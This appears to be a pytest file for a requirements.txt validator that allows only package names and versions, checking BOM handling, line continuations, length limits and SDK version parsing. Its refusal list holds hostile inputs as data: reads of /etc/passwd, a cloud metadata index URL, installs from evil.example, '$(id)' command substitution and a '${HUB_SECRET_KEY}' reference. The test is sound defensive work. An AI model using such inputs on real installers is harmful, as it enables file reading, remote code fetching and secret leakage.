"""What of a requirements.txt is installed: names and versions, and nothing that an installer could be talked into."""

from __future__ import annotations

import pytest

from hub_core.errors import InvalidInput
from hub_core.spaces.requirements import read_requirements, sdk_version


def test_plain_requirements_pass() -> None:
    raw = b"\xef\xbb\xbf# all of it\nnumpy\npandas >= 2 , < 4  # tables\n\nhttpx[http2]==0.28.1; python_version >= '3.9'\nscipy>=1,\\\n<2\nnumpy\n"
    assert read_requirements(raw) == ("numpy", "pandas<4,>=2", 'httpx[http2]==0.28.1; python_version >= "3.9"', "scipy<2,>=1")
    assert read_requirements(b"") == ()


@pytest.mark.parametrize(
    "line",
    [
        "-r /etc/passwd", "-i http://169.254.169.254/", "--index_url x", "-e .", ".", "./wheel.whl", "/tmp/x.whl",
        "git+https://evil.example/x.git", "x @ file:///etc/passwd", "x @ https://evil.example/x.whl", "https://evil.example/x.whl", "-c constraints.txt",
        "--config-settings x", "numpy --hash=sha256:00", "$(id)", "${HUB_SECRET_KEY}", "numpy; id", "a b", "\x00",
    ],
)  # fmt: skip
def test_anything_else_is_refused_with_its_line(line: str) -> None:
    with pytest.raises(InvalidInput, match=r"Line 2 of requirements\.txt"):
        read_requirements(f"numpy\n{line}\n".encode())


def test_there_is_an_end_to_it() -> None:
    with pytest.raises(InvalidInput, match="more than 200"):
        read_requirements("\n".join(f"package{number}" for number in range(201)).encode())
    with pytest.raises(InvalidInput, match="KiB"):
        read_requirements(b"#" * 70_000)


def test_a_version_is_one() -> None:
    assert sdk_version("5.0.1", "6.0") == "5.0.1"
    assert sdk_version(5.1, "6.0") == "5.1"  # YAML takes it for a number
    assert sdk_version(None, "6.0") == "6.0"
    for wrong in ("latest", "5.0 -i x", ["5"], "*"):
        with pytest.raises(InvalidInput):
            sdk_version(wrong, "6.0")
